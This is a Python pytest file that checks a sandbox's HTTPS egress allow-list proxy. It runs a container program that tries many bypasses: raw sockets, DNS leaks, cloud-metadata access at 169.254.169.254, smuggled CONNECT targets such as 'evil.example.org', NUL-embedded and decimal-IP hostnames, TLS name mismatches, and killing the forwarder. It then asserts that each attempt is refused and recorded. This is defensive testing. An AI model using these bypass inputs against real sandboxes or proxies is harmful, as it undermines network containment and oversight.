"""The allow-list from inside a real container: the one way out, and every way around it tried."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from orchestrator.core.errors import ControlUnavailable, Interrupted
from orchestrator.core.job import ContainerKind, Job, JobResult, Verdict
from tests.contracts.sandbox import MIB, Scenario, job_of
from tests.support.egress_rig import ALLOWED, HOST, LISTENER, SERVER, Internet, until
from tests.support.places import ROOT
from tests.support.sandbox_rig import DockerBench, docker_bench

pytestmark = [
    pytest.mark.engine,
    pytest.mark.skipif(
        os.geteuid() != 0,
        reason="only root can make the network namespaces that stand for the world",
    ),
]

FETCH = """
import json, os, socket, ssl, sys, urllib.request
def fetch(url, **more):
    context = ssl.create_default_context(cafile="ca.pem")
    try:
        return urllib.request.urlopen(url, timeout=20, context=context, **more).read().decode()
    except OSError as error:
        return str(error)
def tried(act, *args):
    try:
        return repr(act(*args))
    except OSError as error:
        return type(error).__name__ + ": " + str(error)
def raw(data, address=("127.0.0.1", 3128)):
    sock = socket.socket(socket.AF_UNIX if isinstance(address, str) else socket.AF_INET)
    with sock:
        sock.settimeout(20)
        sock.connect(address)
        sock.sendall(data)
        sock.shutdown(socket.SHUT_WR)
        out = b""
        while more := sock.recv(1 << 16):
            out += more
        return out.decode("latin-1")
SOCKET = "/run/aisci/egress.sock"
"""


@pytest.fixture(scope="module")
def internet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Internet]:
    made = Internet(tmp_path_factory.mktemp("internet"))
    yield made
    made.close()


@pytest.fixture(scope="module")
def bench(internet: Internet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[DockerBench]:
    addresses = {HOST: (SERVER,), "files.example.org": ("169.254.169.254",)}
    folder = tmp_path_factory.mktemp("egress")
    with docker_bench(folder, f"egress-{folder}") as made:
        made.sandbox.pool.dialer = internet.reached_by(addresses.__getitem__)
        yield made


def out_job(bench: DockerBench, internet: Internet, program: str, **limits: Any) -> Job:
    """A job under the allow-list, with the servers' certificate to trust."""
    files = {"ca.pem": internet.certificate.encode()}
    known: dict[str, Any] = {
        "image": "aisci-sandbox:cpu",
        "network": ALLOWED,
        "memory": 256 * MIB,
    }
    return job_of(bench, Scenario(FETCH + program), files=files, **known | limits)


def said(result: JobResult) -> dict[str, Any]:
    assert result.verdict is Verdict.FINISHED, result.stderr
    found: dict[str, Any] = json.loads(result.stdout)
    return found


ATTACKS = r"""
import array, signal, stat, subprocess, time
found = {"ok": fetch("https://api.example.org/")}
found["variables"] = {k: v for k, v in os.environ.items() if k.upper().endswith("_PROXY")}
found["interfaces"] = os.listdir("/sys/class/net")

# Past the proxy: every address, every protocol.
def tcp(host, port, family=socket.AF_INET):
    with socket.socket(family) as sock:
        sock.settimeout(3)
        sock.connect((host, port))
def udp(host):
    question = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x04leak\x03org\x00\x00\x10\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.connect((host, 53))
        sock.send(question)
        return sock.recv(512)
hosts = ["172.17.0.1", "169.254.169.254", "93.184.216.34", "8.8.8.8", "10.0.0.1"]
found["past"] = {f"tcp {h}": tried(tcp, h, 443) for h in hosts}
found["past"] |= {"tcp 6": tried(tcp, "2606:2800:220:1::34", 443, socket.AF_INET6)}
found["past"] |= {"tcp mapped": tried(tcp, "::ffff:93.184.216.34", 443, socket.AF_INET6)}
found["past"] |= {f"udp {h}": tried(udp, h) for h in ["8.8.8.8", "172.17.0.1", "127.0.0.11",
                                                     "127.0.0.1", "127.0.0.53"]}
found["past"] |= {f"name {n}": tried(socket.getaddrinfo, n, 443)
                  for n in ["api.example.org", "secret.evil.org"]}
found["past"] |= {"raw": tried(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)}
found["past"] |= {"packet": tried(socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 0)}

# Through the proxy: other hosts, other spellings, other protocols.
host = "Host: api.example.org\r\n\r\n"
requests = {
    "other host": "CONNECT evil.example.org:443 HTTP/1.1\r\nHost: evil.example.org\r\n\r\n",
    "address": "CONNECT 93.184.216.34:443 HTTP/1.0\r\n\r\n",
    "metadata": "CONNECT 169.254.169.254:443 HTTP/1.0\r\n\r\n",
    "decimal": "CONNECT 1572395042:443 HTTP/1.0\r\n\r\n",
    "mapped": "CONNECT [::ffff:93.184.216.34]:443 HTTP/1.0\r\n\r\n",
    "dot": "CONNECT api.example.org.:443 HTTP/1.0\r\n\r\n",
    "nul": "CONNECT evil.org\0.api.example.org:443 HTTP/1.0\r\n\r\n",
    "port": "CONNECT api.example.org:22 HTTP/1.1\r\n" + host,
    "inside": "CONNECT files.example.org:443 HTTP/1.0\r\n\r\n",
    "get": "GET http://api.example.org/ HTTP/1.1\r\n" + host,
    "host": "CONNECT api.example.org:443 HTTP/1.1\r\nHost: evil.example.org\r\n\r\n",
    "plain": "CONNECT api.example.org:443 HTTP/1.1\r\n" + host + "GET / HTTP/1.1\r\n" + host,
    "huge": "CONNECT api.example.org:443 HTTP/1.1\r\nX: " + "x" * 20000,
}
found["through"] = {k: tried(raw, r.encode("latin-1")) for k, r in requests.items()}
found["straight"] = tried(raw, requests["other host"].encode(), SOCKET)
def other_name():
    context = ssl.create_default_context(cafile="ca.pem")
    sock = socket.create_connection(("127.0.0.1", 3128))
    sock.sendall(("CONNECT api.example.org:443 HTTP/1.1\r\n" + host).encode())
    assert b" 200 " in sock.recv(1000)
    return context.wrap_socket(sock, server_hostname="files.example.org")
found["other name"] = tried(other_name)

# At the socket itself.
found["sockets"] = [os.path.join(top, name) for top, _, names in os.walk("/")
                    if not top.startswith("/proc") for name in names
                    if stat.S_ISSOCK(os.lstat(os.path.join(top, name)).st_mode)]
found["abstract"] = [line.split()[-1] for line in open("/proc/net/unix") if "@" in line]
elsewhere = socket.socket(socket.AF_UNIX)
found["socket"] = {
    "remove": tried(os.unlink, SOCKET), "rename": tried(os.rename, SOCKET, SOCKET + "x"),
    "chmod": tried(os.chmod, SOCKET, 0o777), "bind": tried(elsewhere.bind, SOCKET),
    "replace": tried(os.rename, "ca.pem", SOCKET), "folder": tried(os.rmdir, "/run/aisci"),
    "beside": tried(elsewhere.bind, "/run/aisci/x"), "link": tried(os.symlink, "x", "/run/x"),
    "forwarder": tried(open, "/opt/aisci/forward.py", "w"),
}
# Descriptors sent along are nothing to the proxy.
with socket.socket(socket.AF_UNIX) as sock:
    sock.connect(SOCKET)
    fds = array.array("i", [os.open("main.py", os.O_RDONLY) for _ in range(50)])
    sock.sendmsg([b"CONNECT "], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
found["still"] = fetch("https://api.example.org/")

# Without the forwarder there is no network; another one gets no more than the first.
def forwarders():
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        if pid != "1" and "forward.py" in tried(lambda: open(f"/proc/{pid}/cmdline").read()):
            yield int(pid)
for pid in forwarders():
    os.kill(pid, signal.SIGKILL)
for _ in range(200):  # a dying process closes its socket a little after it left /proc's list
    found["killed"] = fetch("https://api.example.org/")
    if "refused" in found["killed"] or "took" in found["killed"]:
        break
    time.sleep(0.05)
subprocess.run(["python3", "/opt/aisci/forward.py", "3128", SOCKET], check=True)
found["again"] = fetch("https://api.example.org/")
found["again evil"] = fetch("https://evil.example.org/")
print(json.dumps(found))
"""


@pytest.fixture(scope="module")
def attack(bench: DockerBench, internet: Internet) -> JobResult:
    return bench.sandbox.run(out_job(bench, internet, ATTACKS, pids=64))


@pytest.fixture(scope="module")
def seen(attack: JobResult) -> dict[str, Any]:
    return said(attack)


def test_an_allowed_host_is_reached_by_what_any_https_client_goes_by(seen: dict[str, Any]) -> None:
    assert seen["ok"] == "took 0"
    proxy = "http://127.0.0.1:3128"
    assert {seen["variables"][name] for name in ("HTTPS_PROXY", "https_proxy")} == {proxy}
    others = {v for k, v in seen["variables"].items() if k.upper() != "HTTPS_PROXY"}
    assert others == {"", "localhost,127.0.0.1,::1"}


def test_there_is_still_no_interface_but_loopback_and_no_way_past_the_proxy(
    seen: dict[str, Any],
) -> None:
    assert seen["interfaces"] == ["lo"]
    assert len(seen["past"]) == 16
    for way, what in seen["past"].items():
        assert "Error" in what.partition(":")[0] or what.startswith("gaierror"), (way, what)


@pytest.mark.parametrize(
    ("way", "answer"),
    [
        ("other host", "403 Forbidden: not in the allow-list"),
        ("address", "an IP address"),
        ("metadata", "an IP address"),
        ("decimal", "an IP address"),
        ("mapped", "an IP address"),
        ("dot", "a dot after"),
        ("nul", "a control character"),
        ("port", "only port 443"),
        ("inside", "169.254.169.254 is not public"),
        ("get", "not a CONNECT"),
        ("host", "another host"),
        ("huge", "more than 8192 bytes"),
    ],
)
def test_the_proxy_says_no_and_why(seen: dict[str, Any], way: str, answer: str) -> None:
    assert answer in seen["through"][way]
    assert "200" not in seen["through"][way]


def test_plain_http_and_tls_for_another_host_go_nowhere(seen: dict[str, Any]) -> None:
    assert seen["through"]["plain"] == repr("HTTP/1.1 200 Connection established\r\n\r\n")
    assert "Error" in seen["other name"]


def test_the_socket_straight_is_the_same_proxy(seen: dict[str, Any]) -> None:
    assert "not in the allow-list" in seen["straight"]


def test_a_job_sees_its_own_socket_alone_and_cannot_remove_replace_or_change_it(
    seen: dict[str, Any],
) -> None:
    assert seen["sockets"] == ["/run/aisci/egress.sock"]
    assert seen["abstract"] == []
    for way, what in seen["socket"].items():
        assert "Error" in what, (way, what)
    assert seen["still"] == "took 0"


def test_a_dead_forwarder_costs_the_network_and_another_gets_no_more(seen: dict[str, Any]) -> None:
    assert "Connection refused" in seen["killed"]
    assert seen["again"] == "took 0"
    assert "not in the allow-list" in seen["again evil"]


def test_every_decision_is_in_the_attestation(attack: JobResult) -> None:
    told = attack.attestation.egress
    allowed = [one for one in told if one.allowed]
    assert [(one.host, one.address) for one in allowed] == [(f"{HOST}:443", SERVER)] * 3
    assert all(one.sent > 100 and one.received > 100 for one in allowed)
    refused = " | ".join(one.why for one in told if not one.allowed)
    for why in ("not in the allow-list", "an IP address", "not public", "TLS for another host"):
        assert why in refused
    assert all(one.sent == one.received == 0 for one in told if not one.allowed)
    assert len(told) == 3 + 12 + 1 + 1 + 1 + 1 + 1
    assert [one.at for one in told] == sorted(one.at for one in told)
    mounts = dict(attack.attestation.inspected)["HostConfig.Mounts"]
    assert "ReadOnly=True" in mounts.partition("/run/aisci/egress.sock")[0]
    assert dict(attack.attestation.inspected)["HostConfig.NetworkMode"] == "none"


def test_the_hosts_end_keeps_no_descriptor_and_no_file(
    bench: DockerBench, attack: JobResult
) -> None:
    folder = bench.sandbox.pool.resources._sockets
    assert folder is not None
    assert attack.verdict is Verdict.FINISHED
    assert list(folder.iterdir()) == []
    assert folder.stat().st_mode & 0o777 == 0o700
    kept = [fd.readlink() for fd in Path("/proc/self/fd").iterdir() if os.path.lexists(fd)]
    assert not any("main.py" in str(name) for name in kept)


# The kernel tells every user of the host how each socket is named.
STRANGER = """
import os, socket, sys
os.setgroups([]), os.setgid(12345), os.setuid(12345)
found = [line.split()[-1] for line in open("/proc/net/unix") if sys.argv[1] in line]
for path in found:
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        print("reached", path)
    except PermissionError:
        print("refused")
"""


def test_another_user_of_the_host_learns_the_sockets_name_and_still_cannot_reach_it(
    bench: DockerBench, internet: Internet
) -> None:
    with bench.sandbox.open(out_job(bench, internet, "sys.stdin.readline()")) as session:
        folder = bench.sandbox.pool.resources._sockets
        assert folder is not None
        argv = [sys.executable, "-c", STRANGER, str(folder)]
        told = subprocess.run(argv, capture_output=True, text=True, check=True).stdout
        session.send(b"end")
        session.wait()
        result = session.finish()
    assert told.splitlines() == ["refused"]
    assert result.attestation is not None
    assert result.attestation.egress == ()


def test_when_the_proxy_is_gone_there_is_no_network_and_never_an_open_one(
    bench: DockerBench, internet: Internet
) -> None:
    program = """
print(fetch("https://api.example.org/"), flush=True)
sys.stdin.readline()
print(fetch("https://api.example.org/"), flush=True)
print(tried(socket.create_connection, ("93.184.216.34", 443), 3), flush=True)
"""
    with bench.sandbox.open(out_job(bench, internet, program)) as session:
        assert session.receive(60) == b"took 0"
        assert session._proxy is not None
        session._proxy.close()
        session.send(b"go")
        closed, direct = session.receive(60), session.receive(60)
        session.finish()
    assert b"took" not in (closed or b"took")
    assert b"Network is unreachable" in (direct or b"")


def test_a_flood_from_inside_is_bounded_and_ends_with_the_job(
    bench: DockerBench, internet: Internet
) -> None:
    program = """
held = []
for _ in range(300):
    sock = socket.socket(socket.AF_UNIX)
    sock.connect(SOCKET)
    sock.settimeout(20)
    held.append(sock)
print(json.dumps({"said": sum(b"503" in sock.recv(200) for sock in held[100:])}))
"""
    result = bench.sandbox.run(out_job(bench, internet, program, open_files=400))
    assert said(result)["said"] == 200
    told = result.attestation.egress
    assert sum("at once" in one.why for one in told) > 100
    assert not any(one.allowed for one in told)


def test_without_an_allow_list_there_is_no_socket_no_forwarder_and_no_variable(
    bench: DockerBench, internet: Internet
) -> None:
    program = """
found = {"variables": [k for k in os.environ if k.upper().endswith("_PROXY")]}
found["there"] = os.path.exists(SOCKET)
found["loopback"] = tried(socket.create_connection, ("127.0.0.1", 3128), 2)
print(json.dumps(found))
"""
    result = bench.sandbox.run(out_job(bench, internet, program, network=()))
    seen = said(result)
    assert (seen["variables"], seen["there"]) == ([], False)
    assert "refused" in seen["loopback"]
    assert result.attestation.egress == ()


def test_two_jobs_side_by_side_have_each_its_own_list(
    bench: DockerBench, internet: Internet
) -> None:
    program = """
import time
found = [fetch("https://api.example.org/"), fetch("https://files.example.org/")]
print(json.dumps({"found": found, "there": os.listdir("/run/aisci")}))
"""
    jobs = [
        replace(out_job(bench, internet, program, network=(entry,)), scope=entry)
        for entry in ALLOWED
    ]
    with ThreadPoolExecutor(2) as pool:
        api, files = pool.map(bench.sandbox.run, jobs)
    assert said(api)["found"][0] == "took 0"
    assert "not in the allow-list" in said(api)["found"][1]
    assert "not in the allow-list" in said(files)["found"][0]
    assert said(api)["there"] == said(files)["there"] == ["egress.sock"]
    assert [one.host for one in api.attestation.egress if one.allowed] == [ALLOWED[0]]


@pytest.mark.parametrize("kind", ["latex", "editor"])
def test_only_experiments_are_let_out(
    bench: DockerBench, internet: Internet, kind: ContainerKind
) -> None:
    job = replace(out_job(bench, internet, "pass"), kind=kind)
    with pytest.raises(ControlUnavailable, match=f"kind {kind} cannot be given an allow-list"):
        bench.sandbox.run(job)


def test_a_policy_that_sets_a_proxy_of_its_own_is_refused(
    bench: DockerBench, internet: Internet
) -> None:
    with pytest.raises(ControlUnavailable, match="https_proxy would bypass the proxy"):
        bench.sandbox.run(out_job(bench, internet, "pass", env=(("https_proxy", "http://x:1"),)))


def test_an_image_without_the_forwarder_runs_nothing_under_an_allow_list(
    bench: DockerBench, internet: Internet
) -> None:
    result = bench.sandbox.run(out_job(bench, internet, "print('ran')", image="aisci-storage"))
    assert result.verdict is Verdict.FAILED
    assert result.stdout == ""
    assert "forward.py" in result.stderr


def test_a_job_that_was_stopped_tells_what_went_out_before(
    internet: Internet, tmp_path: Path
) -> None:
    with docker_bench(tmp_path, f"stopped-{tmp_path}") as bench:
        bench.sandbox.pool.dialer = internet.reached_by(lambda _: (SERVER,))
        program = 'fetch("https://api.example.org/"); import time; time.sleep(25)'
        internet.answered = 0
        with ThreadPoolExecutor(1) as pool:
            running = pool.submit(bench.sandbox.run, out_job(bench, internet, program))
            until(lambda: internet.answered)
            bench.sandbox.pool.stop()
            with pytest.raises(Interrupted) as caught:
                running.result()
    assert "1 allowed (api.example.org:443), 0 refused" in caught.value.why


def test_a_job_that_ctrl_c_ended_tells_it_too(bench: DockerBench, internet: Internet) -> None:
    program = 'print(fetch("https://api.example.org/"), flush=True); sys.stdin.read()'

    def stopped() -> None:
        with bench.sandbox.open(out_job(bench, internet, program)) as session:
            assert session.receive(60) == b"took 0"
            raise KeyboardInterrupt

    with pytest.raises(Interrupted) as caught:
        stopped()
    assert "1 allowed (api.example.org:443), 0 refused" in caught.value.why


ORCHESTRATOR = """
import sys
from pathlib import Path
from orchestrator.sandbox.engine.client import connect
from tests.contracts.sandbox import MIB, Scenario, job_of
from tests.support.sandbox_rig import DockerBench
bench = DockerBench(connect(), Path(sys.argv[1]), sys.argv[2])
scenario = Scenario("import time; print('up', flush=True); time.sleep(600)")
job = job_of(bench, scenario, wall=600.0, image="aisci-sandbox:cpu", memory=256 * MIB,
             network=("api.example.org:443",))
with bench.sandbox.pool, bench.sandbox.open(job) as session:
    print(session.receive(60).decode(), flush=True)
    print(bench.sandbox.pool.resources._sockets, flush=True)
    session.wait()
"""


def test_an_orchestrator_that_is_killed_leaves_no_socket(tmp_path: Path) -> None:
    with subprocess.Popen(
        [sys.executable, "-c", ORCHESTRATOR, str(tmp_path), f"killed-{tmp_path}"],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        text=True,
    ) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == "up\n"
        folder = Path(process.stdout.readline().strip())
        assert [path.is_socket() for path in folder.iterdir()] == [True]
        process.send_signal(signal.SIGKILL)
    until = time.monotonic() + 40
    while folder.exists() and time.monotonic() < until:
        time.sleep(0.2)
    assert not folder.exists()


def test_nothing_reached_a_server_that_no_name_led_to(internet: Internet, seen: object) -> None:
    assert seen
    assert internet.listener.callers == 0
    assert LISTENER != SERVER


@pytest.mark.parametrize("runtime", ["runc", "runsc"])
def test_gvisor_lets_no_socket_of_the_hosts_in_which_is_why_it_is_refused(
    bench: DockerBench, tmp_path: Path, runtime: str
) -> None:
    """The one of 2022 does not even mount it. Under runc the same attempt gets through."""
    if runtime not in bench.engine.api.info()["Runtimes"]:
        pytest.skip(f"the engine has no {runtime}")
    connect = "import socket; socket.socket(socket.AF_UNIX).connect('/run/s'); print('connected')"
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(tmp_path / "s"))
        listener.listen()
        words = ["docker", "run", "--rm", f"--runtime={runtime}", "--network=none"]
        words += [f"--volume={tmp_path / 's'}:/run/s:ro", "aisci-storage", "python3", "-c", connect]
        done = subprocess.run(words, capture_output=True, text=True, check=False)
    assert ("connected" in done.stdout) is (runtime == "runc")
